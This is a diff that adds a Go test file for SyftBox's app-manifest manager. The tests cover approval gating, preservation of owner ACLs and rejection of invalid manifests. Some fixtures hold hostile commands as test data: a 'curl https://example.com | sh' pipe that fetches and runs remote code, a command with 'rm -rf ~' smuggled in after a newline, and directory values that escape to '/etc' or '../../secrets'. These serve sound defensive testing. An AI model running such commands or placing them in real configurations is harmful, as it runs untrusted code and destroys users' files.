@@ -0,0 +1,183 @@
+package apps
+
+import (
+	"context"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/openmined/syftbox/internal/aclspec"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+const testManifest = `apps:
+  - name: pingpong
+    command: python3 main.py --port $SYFTBOX_APP_PORT
+    dirs: [data, data/cache]
+    rpc:
+      ping:
+      admin: {}
+      shared:
+        write: [bob@example.com]
+`
+
+func writeManifest(t *testing.T, content string) string {
+	t.Helper()
+	path := filepath.Join(t.TempDir(), ManifestFileName)
+	require.NoError(t, os.WriteFile(path, []byte(content), 0o644))
+	return path
+}
+
+func TestApplyManifest(t *testing.T) {
+	root := t.TempDir()
+	datasiteDir := filepath.Join(root, "datasites", "alice@example.com")
+	mgr := NewManager(filepath.Join(root, "apps"), filepath.Join(root, ".data"))
+
+	manifest, err := LoadManifest(writeManifest(t, testManifest))
+	require.NoError(t, err)
+
+	// nothing is installed before it is approved
+	result, err := mgr.ApplyManifest(context.Background(), manifest, datasiteDir)
+	require.NoError(t, err)
+	require.Len(t, result.Pending, 1)
+	assert.Equal(t, "pingpong", result.Pending[0].Name)
+	assert.NoDirExists(t, filepath.Join(datasiteDir, "app_data"))
+	apps, err := mgr.ListApps()
+	require.NoError(t, err)
+	assert.Empty(t, apps)
+
+	require.NoError(t, mgr.ApproveManifestApps(result.Pending...))
+	result, err = mgr.ApplyManifest(context.Background(), manifest, datasiteDir)
+	require.NoError(t, err)
+	assert.Empty(t, result.Pending)
+	assert.Equal(t, []AppID{"manifest.pingpong"}, result.Installed)
+
+	// app_data directories
+	appData := filepath.Join(datasiteDir, "app_data", "pingpong")
+	for _, dir := range []string{"rpc", "rpc/ping", "rpc/admin", "rpc/shared", "data", "data/cache"} {
+		assert.DirExists(t, filepath.Join(appData, dir))
+	}
+
+	// rpc acls
+	ping, err := aclspec.LoadFromFile(filepath.Join(appData, "rpc", "ping"))
+	require.NoError(t, err)
+	require.Len(t, ping.Rules, 1)
+	assert.Equal(t, aclspec.AllFiles, ping.Rules[0].Pattern)
+	assert.True(t, ping.Rules[0].Access.Write.Contains(aclspec.TokenEveryone))
+
+	admin, err := aclspec.LoadFromFile(filepath.Join(appData, "rpc", "admin"))
+	require.NoError(t, err)
+	assert.Zero(t, admin.Rules[0].Access.Write.Cardinality())
+	assert.Zero(t, admin.Rules[0].Access.Read.Cardinality())
+
+	shared, err := aclspec.LoadFromFile(filepath.Join(appData, "rpc", "shared"))
+	require.NoError(t, err)
+	assert.ElementsMatch(t, []string{"bob@example.com"}, shared.Rules[0].Access.Write.ToSlice())
+
+	// the app is installed with its run script
+	apps, err = mgr.ListApps()
+	require.NoError(t, err)
+	require.Len(t, apps, 1)
+	assert.Equal(t, "manifest.pingpong", apps[0].ID)
+	assert.Equal(t, AppSourceManifest, apps[0].Source)
+	assert.Equal(t, manifest.Apps[0].Digest(), apps[0].ManifestDigest)
+
+	runScript, err := os.ReadFile(apps[0].RunScriptPath())
+	require.NoError(t, err)
+	assert.Equal(t, "#!/bin/sh\nexec python3 main.py --port $SYFTBOX_APP_PORT\n", string(runScript))
+}
+
+func TestApplyManifestKeepsOwnerACLs(t *testing.T) {
+	root := t.TempDir()
+	datasiteDir := filepath.Join(root, "datasites", "alice@example.com")
+	mgr := NewManager(filepath.Join(root, "apps"), filepath.Join(root, ".data"))
+
+	manifest, err := LoadManifest(writeManifest(t, testManifest))
+	require.NoError(t, err)
+	require.NoError(t, mgr.ApproveManifestApps(manifest.Apps...))
+	_, err = mgr.ApplyManifest(context.Background(), manifest, datasiteDir)
+	require.NoError(t, err)
+
+	// the owner locks the endpoint down, applying the manifest again keeps it
+	pingDir := filepath.Join(datasiteDir, "app_data", "pingpong", "rpc", "ping")
+	private := aclspec.NewRuleSet(pingDir, aclspec.NotTerminal, aclspec.NewDefaultRule(aclspec.PrivateAccess(), aclspec.DefaultLimits()))
+	require.NoError(t, private.Save())
+
+	_, err = mgr.ApplyManifest(context.Background(), manifest, datasiteDir)
+	require.NoError(t, err)
+
+	ping, err := aclspec.LoadFromFile(pingDir)
+	require.NoError(t, err)
+	assert.Zero(t, ping.Rules[0].Access.Write.Cardinality())
+
+	apps, err := mgr.ListApps()
+	require.NoError(t, err)
+	assert.Len(t, apps, 1)
+}
+
+func TestApplyManifestChangedApp(t *testing.T) {
+	root := t.TempDir()
+	datasiteDir := filepath.Join(root, "datasites", "alice@example.com")
+	mgr := NewManager(filepath.Join(root, "apps"), filepath.Join(root, ".data"))
+
+	manifest, err := LoadManifest(writeManifest(t, testManifest))
+	require.NoError(t, err)
+	require.NoError(t, mgr.ApproveManifestApps(manifest.Apps...))
+	_, err = mgr.ApplyManifest(context.Background(), manifest, datasiteDir)
+	require.NoError(t, err)
+
+	// a changed command waits for another approval, the approved one is kept meanwhile
+	changed, err := LoadManifest(writeManifest(t, "apps:\n  - name: pingpong\n    command: curl https://example.com | sh\n"))
+	require.NoError(t, err)
+	result, err := mgr.ApplyManifest(context.Background(), changed, datasiteDir)
+	require.NoError(t, err)
+	require.Len(t, result.Pending, 1)
+	assert.Empty(t, result.Updated)
+
+	pending, err := mgr.PendingManifestApps(changed)
+	require.NoError(t, err)
+	assert.Len(t, pending, 1)
+
+	apps, err := mgr.ListApps()
+	require.NoError(t, err)
+	require.Len(t, apps, 1)
+	runScript, err := os.ReadFile(apps[0].RunScriptPath())
+	require.NoError(t, err)
+	assert.Contains(t, string(runScript), "python3 main.py")
+
+	// once approved it is installed again
+	require.NoError(t, mgr.ApproveManifestApps(pending...))
+	result, err = mgr.ApplyManifest(context.Background(), changed, datasiteDir)
+	require.NoError(t, err)
+	assert.Equal(t, []AppID{"manifest.pingpong"}, result.Updated)
+
+	runScript, err = os.ReadFile(apps[0].RunScriptPath())
+	require.NoError(t, err)
+	assert.Contains(t, string(runScript), "curl https://example.com | sh")
+}
+
+func TestLoadManifestInvalid(t *testing.T) {
+	tests := []struct {
+		name     string
+		manifest string
+	}{
+		{"unknown field", "apps:\n  - name: app\n    command: ./run\n    runtime: python\n"},
+		{"bad name", "apps:\n  - name: ../app\n    command: ./run\n"},
+		{"no source or command", "apps:\n  - name: app\n"},
+		{"source and command", "apps:\n  - name: app\n    source: https://github.com/OpenMined/pingpong\n    command: ./run\n"},
+		{"invalid source", "apps:\n  - name: app\n    source: not a url\n"},
+		{"multi-line command", "apps:\n  - name: app\n    command: \"./run\\nrm -rf ~\"\n"},
+		{"dir escapes", "apps:\n  - name: app\n    command: ./run\n    dirs: [../../secrets]\n"},
+		{"absolute dir", "apps:\n  - name: app\n    command: ./run\n    dirs: [/etc]\n"},
+		{"endpoint escapes", "apps:\n  - name: app\n    command: ./run\n    rpc:\n      ../../public:\n"},
+		{"duplicate app", "apps:\n  - name: app\n    command: ./run\n  - name: app\n    command: ./run\n"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, err := LoadManifest(writeManifest(t, tt.manifest))
+			assert.ErrorIs(t, err, ErrInvalidManifest)
+		})
+	}
+}